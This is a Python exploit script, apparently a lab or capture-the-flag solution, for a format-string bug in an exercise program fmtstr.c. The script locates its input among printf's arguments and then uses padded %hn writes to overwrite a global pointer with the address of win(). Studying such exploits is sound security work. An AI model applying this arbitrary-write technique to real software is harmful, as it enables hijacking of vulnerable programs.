#!/usr/bin/env python3
"""Exploit for fmtstr.c: %hn writes that point `at_end` at win().

Offline, on its own copy of the binary, the exploit finds where the input
lands among printf's arguments: it runs the program with "AAAAAAAA|%p|%p..."
and looks for 0x4141414141414141 in the output (nothing of the target's own
output is used). From the binary: the offsets of win() and of the global
`at_end` (nm). From the leak: the binary's base.

The format then writes win's address into `at_end` 16 bits at a time: the
three %hn stores (bytes 0-1, 2-3, 4-5; the top two bytes are already zero)
are ordered by value, each preceded by enough padding (%<n>c) to bring the
count of printed characters to that value. The three target addresses
follow the format in the buffer, after a NUL, 8-byte aligned, and are
named by their argument index (%<i>$hn).
"""
import os
import subprocess
import tempfile

import attacker as a

BUF_SIZE = 255  # the program reads at most this much


def find_arg_index(binary):
    """The printf argument index of the first 8 bytes of the input."""
    probe = b"AAAAAAAA" + b"|%p" * 40
    with tempfile.TemporaryDirectory() as tmp:
        out = subprocess.run([binary, os.path.join(tmp, "probe-marker")],
                             input=probe, capture_output=True, timeout=10).stdout
    fields = out.split(b"|")[1:]
    for i, field in enumerate(fields, 1):
        if field.startswith(b"0x4141414141414141"):
            return i
    a.die("the input does not appear among printf's first 40 arguments")


def format_payload(index, target, value):
    writes = sorted((value >> (16 * i)) & 0xFFFF for i in range(3))
    order = sorted(range(3), key=lambda i: (value >> (16 * i)) & 0xFFFF)
    slots = 0
    while True:  # the format's length decides where the addresses go
        fmt = b""
        printed = 0
        for slot, i in enumerate(order):
            want = writes[slot]
            pad = (want - printed) % 0x10000
            if pad:
                fmt += b"%%1$%dc" % pad
                printed += pad
            fmt += b"%%%d$hn" % (index + slots + slot)
        fmt += b"\x00"
        fmt += b"." * (-len(fmt) % 8)
        if len(fmt) // 8 == slots:
            break
        slots = len(fmt) // 8
    addrs = b"".join(a.p64(target + 2 * i) for i in order)
    payload = fmt + addrs
    if len(payload) > BUF_SIZE:
        a.die("format too long")
    return payload


args = a.parse_args(__doc__)
syms = a.symbols(args.binary)
index = find_arg_index(args.binary)
layout = a.leak_layout(args)
base = layout.binary_base
payload = format_payload(index, base + syms["at_end"], base + syms["win"])
a.send(args.fifo, payload)
